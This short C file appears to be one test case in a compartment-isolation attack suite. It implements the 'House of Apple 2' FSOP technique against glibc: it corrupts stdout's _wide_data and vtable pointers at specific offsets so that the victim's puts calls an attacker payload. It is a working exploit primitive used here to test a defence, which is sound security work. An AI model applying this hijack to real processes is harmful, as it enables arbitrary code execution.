/* class: libc
 * source: FSOP by _wide_data ("House of Apple 2"): its table of functions is not checked
 * tries: to have the victim's puts call the payload as the stream's __doallocate
 * must: have no effect on other compartments
 * expect: succeeds until libc's data are private */
#include "attack.h"

ATTACK
{
    char *tables = exported("_IO_wfile_jumps");
    char *file = (char *)stdout, *wide = shared_at(0x2000), *table = shared_at(0x3000);
    if (!tables)
        return;
    *(word *)(wide + 0xe0) = (word)table; /* _wide_vtable */
    *(word *)(table + 0x68) = (word)payload; /* __doallocate */
    *(unsigned *)file = 0xfbad0000;
    *(word *)(file + 0xa0) = (word)wide; /* _wide_data */
    *(word *)(file + 0xd8) = (word)tables - 0x20; /* __xsputn becomes __overflow */
    victim_call(PUTS, 0, 0);
}
